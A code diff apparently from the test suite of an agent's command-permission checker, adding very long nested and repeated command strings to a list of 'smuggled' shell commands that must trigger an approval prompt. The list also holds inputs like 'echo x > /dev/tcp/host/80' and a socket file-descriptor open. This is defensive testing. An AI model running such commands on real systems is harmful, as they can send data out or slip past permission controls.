@@ -59,6 +59,7 @@ SMUGGLED = [
     "echo x > $X", "git log -2>&1", "echo x > /dev/tcp/host/80", "exec 3<>/dev/tcp/host/80", "echo x | cat > ../x",
     # What is no command line.
     "git status (", "git status 'x", "git status $(", "if git status",
+    "(" * 3000 + "ls" + ")" * 3000, "ls && " * 1500 + "ls", "ls " * 5000,
 ]  # fmt: skip
 
 HARMLESS = [
@@ -96,7 +97,7 @@ def judged(permissions: Permissions, command: str) -> str:
     return permissions.judge(run_command, {"command": command}).action
 
 
-@pytest.mark.parametrize("command", SMUGGLED)
+@pytest.mark.parametrize("command", SMUGGLED, ids=lambda command: command[:60])
 def test_smuggling_is_asked(command: str, workspace: Path) -> None:
     rules = Rules("ask", allow=[f"run_command({pattern})" for pattern in ALLOWED])
     assert judged(Permissions(rules, workspace=workspace), command) == "ask"
